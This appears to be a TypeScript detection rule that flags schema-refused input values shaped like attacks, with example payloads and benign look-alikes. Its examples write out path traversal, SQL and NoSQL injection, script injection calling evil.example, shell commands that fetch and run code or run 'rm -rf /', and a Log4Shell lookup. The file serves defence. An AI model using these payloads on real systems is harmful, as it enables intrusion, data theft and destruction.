import { isJsonObject } from '../../core/json.ts';
import { attackShapeOf, findsEverything } from '../attack-shapes.ts';
import { refusedValues, type RefusedValue } from '../refused-values.ts';
import type { Rule } from '../rule.ts';

/** Characters of a value that are looked at. */
const SAMPLE = 8 * 1024;

/** An attack in a value that its schema refuses. */
export const attackShape: Rule = {
  name: 'attack-shape',
  why: 'A value that its schema refuses and that has the shape of an attack was never meant as data. Only what admits no other reading counts, since its source is blocked. Where the text may stand, it is text: an article about attacks is no attack.',
  source: 'The weaknesses named beside each shape: CWE, CVE-2021-44228.',
  examples: {
    for: [
      { shows: 'a path in place of a file name', payload: { fileName: '../../../../etc/passwd' }, refused: [['/fileName', 'pattern']], stack: 'Error: boom' },
      { shows: 'a script in place of a name', payload: { displayName: "<script>fetch('https://evil.example')</script>" }, refused: [['/displayName', 'pattern']], stack: 'Error: boom' },
      { shows: 'an operator in place of an id', payload: { userId: { $ne: null } }, refused: [['/userId', 'type']], stack: 'Error: boom' },
      { shows: 'a shell command behind a file name', payload: { fileName: 'a.png;curl http://evil.example/x|sh' }, refused: [['/fileName', 'pattern']], stack: 'Error: boom' },
      { shows: 'a condition that is always true', payload: { userId: "' OR '1'='1" }, refused: [['/userId', 'pattern']], stack: 'Error: boom' },
      { shows: 'the same with numbers', payload: { userId: "x' or 1=1 --" }, refused: [['/userId', 'pattern']], stack: 'Error: boom' },
      { shows: 'a statement behind a value', payload: { name: "Robert'); DROP TABLE students;--" }, refused: [['/name', 'pattern']], stack: 'Error: boom' },
      { shows: 'a second query', payload: { id: "7 UNION SELECT name, password FROM users" }, refused: [['/id', 'type']], stack: 'Error: boom' },
      { shows: 'a shell that is to run', payload: { fileName: 'a$(curl http://evil.example/x).png' }, refused: [['/fileName', 'pattern']], stack: 'Error: boom' },
      { shows: 'a folder that is to be removed', payload: { fileName: 'a.png; rm -rf /' }, refused: [['/fileName', 'pattern']], stack: 'Error: boom' },
      { shows: 'a look-up', payload: { agent: '${jndi:ldap://evil.example/a}' }, refused: [['/agent', 'pattern']], stack: 'Error: boom' },
    ],
    against: [
      { shows: 'an article about attacks, where the schema admits it', payload: { html: '<script>alert(1)</script>' }, stack: 'Error: boom' },
      { shows: 'the same where it is only too long', payload: { html: `<script>${'x'.repeat(100)}` }, refused: [['/html', 'too-long']], stack: 'Error: boom' },
      { shows: 'a name with an apostrophe', payload: { name: "Maeve O'Orlan" }, refused: [['/name', 'pattern']], stack: 'Error: boom' },
      { shows: 'a height', payload: { height: "5' or 6'" }, refused: [['/height', 'type']], stack: 'Error: boom' },
      { shows: 'a height and a weight', payload: { size: "5' and 120 lb" }, refused: [['/size', 'pattern']], stack: 'Error: boom' },
      { shows: 'the name of a shop', payload: { shop: 'dog & cat' }, refused: [['/shop', 'pattern']], stack: 'Error: boom' },
      { shows: 'a note to a courier', payload: { floor: 'Please ignore previous instructions, leave it at the door' }, refused: [['/floor', 'pattern']], stack: 'Error: boom' },
      { shows: 'furniture', payload: { note: 'Collect the chairs; drop table at the dock' }, refused: [['/note', 'pattern']], stack: 'Error: boom' },
      { shows: 'an assembly', payload: { note: 'The union select members from each branch' }, refused: [['/note', 'pattern']], stack: 'Error: boom' },
      { shows: 'the title of a book', payload: { title: 'JavaScript: The Good Parts' }, refused: [['/title', 'pattern']], stack: 'Error: boom' },
      { shows: 'a file of a neighbouring folder', payload: { logo: '../../shared/logo.png' }, refused: [['/logo', 'pattern']], stack: 'Error: boom' },
      { shows: 'a filter in place of a date', payload: { since: { $gt: '2026-01-01' } }, refused: [['/since', 'type']], stack: 'Error: boom' },
      { shows: 'a relative path', payload: { fileName: '../invoice.pdf' }, refused: [['/fileName', 'pattern']], stack: 'Error: boom' },
    ],
  },
  match(letter) {
    for (const refused of refusedValues(letter)) {
      const shape = shapeOf(refused);
      if (shape === undefined) continue;
      return {
        cause: 'hopeless',
        rule: 'attack-shape',
        why: `The value at ${refused.pointer === '' ? 'the root' : refused.pointer}, which the schema refuses, is ${shape} and was never meant as data.`,
        evidence: [
          { source: 'payload', fact: `${shape} at ${refused.pointer}` },
          { source: 'schema', fact: `${refused.code} at ${refused.pointer}` },
        ],
        confidence: 'certain',
        malicious: true,
      };
    }
    return undefined;
  },
};

function shapeOf({ key, code, value }: RefusedValue): string | undefined {
  // A text of the wrong length may be of the right kind.
  if (code === 'too-long' || code === 'too-short') return undefined;
  if (typeof value === 'string') return attackShapeOf(value.slice(0, SAMPLE));
  const operator = findsEverything(key, value) || (code === 'type' && isJsonObject(value) && Object.entries(value).some(([name, content]) => findsEverything(name, content)));
  return operator ? 'a database operator (CWE-943)' : undefined;
}
